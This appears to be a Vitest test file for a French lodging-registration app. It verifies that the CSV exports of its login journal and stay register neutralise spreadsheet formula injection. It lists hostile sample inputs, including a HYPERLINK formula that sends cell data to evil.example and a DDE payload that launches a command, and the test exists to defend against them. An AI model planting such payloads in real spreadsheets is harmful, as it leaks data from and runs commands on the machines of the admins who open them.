import { describe, expect, it } from 'vitest';
import { useApp } from './fixture';

/**
 * Anonymous text — a name typed on the login form, a public report — reaches the files admins open in a
 * spreadsheet. Whatever it holds, no cell of an export, nor any piece of one a spreadsheet splitting on
 * `;`, `,` or tab would make, may start like a formula.
 */
const t = useApp({ sessions: ['admin'] });

const HOSTILE = [
  'x;=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
  'Gîte, +33 6 00 00 00 00',
  "a\t@SUM(1+1)*cmd|' /C calc'!A0",
  'nom; -2+3',
];

/** The cells of a `;` CSV as a spreadsheet reads them (quotes respected, "" a quote). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const body = text.replace(/^\uFEFF/, '');
  for (let i = 0; i < body.length; i++) {
    const c = body[i]!;
    if (quoted) {
      if (c === '"' && body[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ';') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && body[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell || row.length > 0) rows.push([...row, cell]);
  return rows;
}

const FORMULA = /^[ \u00a0]*[=+\-@\t\r]/;

/** Cells, and every piece of a cell a spreadsheet might split off, that would run as a formula. */
function formulas(rows: string[][]): string[] {
  const found: string[] = [];
  for (const cell of rows.flat()) {
    for (const piece of cell.split(/[;,\t\n]/)) if (FORMULA.test(piece)) found.push(cell);
    if (FORMULA.test(cell)) found.push(cell);
  }
  return found;
}

describe('exports of anonymous text', () => {
  it('neutralise every formula a failed sign-in name or a public report plants in the journal', async () => {
    for (const [i, username] of HOSTILE.entries()) {
      const response = await t.call({
        method: 'POST',
        url: '/api/users/login',
        payload: { username, password: 'Wrong-Secret-99' },
        remoteAddress: `10.7.0.${i + 1}`,
      });
      expect(response.json().code).toBe('invalid_credentials');
    }
    const report = await t.call({
      method: 'POST',
      url: '/api/establishments/report',
      remoteAddress: '10.7.1.1',
      payload: {
        kind: 'individual',
        firstname: 'Camille',
        lastname: HOSTILE[0],
        email: 'declarant@exemple.test',
        phone: '+33612345678',
        name: HOSTILE[1],
        address: '3 rue de l’Église',
        cp: '57170',
        city: 'Château-Salins',
        type: 'NONE',
        capacityMaxRoom: 2,
        capacityMaxPerson: 4,
        numero: '57001900001AB',
        openingDate: '2026-01-01',
        consent: true,
        website: '',
      },
    });
    expect(report.statusCode, report.body).toBeLessThan(300);
    const reports = await t.call({ method: 'GET', url: '/api/reports?status=new', token: t.tokens.admin });
    const [{ id }] = reports.json().data;
    const accepted = await t.call({
      method: 'POST',
      url: `/api/reports/${id}/accept`,
      token: t.tokens.admin,
      payload: {},
    });
    expect(accepted.statusCode, accepted.body).toBe(200);

    const journal = await t.call({ method: 'GET', url: '/api/journal/export.csv', token: t.tokens.admin });
    expect(journal.statusCode).toBe(200);
    const rows = parseCsv(journal.body);
    expect(rows[0]![0]).toBe('Date');
    // The planted texts are there, kept readable, each as one cell.
    const cells = rows.flat();
    expect(cells).toContain("x;'=1+1");
    expect(cells).toContain(`'${HOSTILE[1]}`);
    expect(formulas(rows)).toEqual([]);
  });

  it('neutralise a formula in the register export, bare amounts in French form', async () => {
    const establishments = await t.call({ method: 'GET', url: '/api/establishments', token: t.tokens.admin });
    const [establishment] = establishments.json().data;
    for (const reference of HOSTILE) {
      const created = await t.call({
        method: 'POST',
        url: `/api/establishments/${establishment.id}/stays`,
        token: t.tokens.admin,
        payload: { arrival: '2026-02-10', departure: '2026-02-12', persons: 2, price: 37_620, reference },
      });
      expect(created.statusCode, created.body).toBe(201);
    }
    const csv = await t.call({
      method: 'GET',
      url: `/api/establishments/${establishment.id}/stays/export.csv?year=2026&month=2`,
      token: t.tokens.admin,
    });
    expect(csv.statusCode, csv.body).toBe(200);
    const rows = parseCsv(csv.body);
    expect(rows).toHaveLength(HOSTILE.length + 1);
    expect(rows[1]).toContain('376,20');
    expect(formulas(rows)).toEqual([]);
  });
});
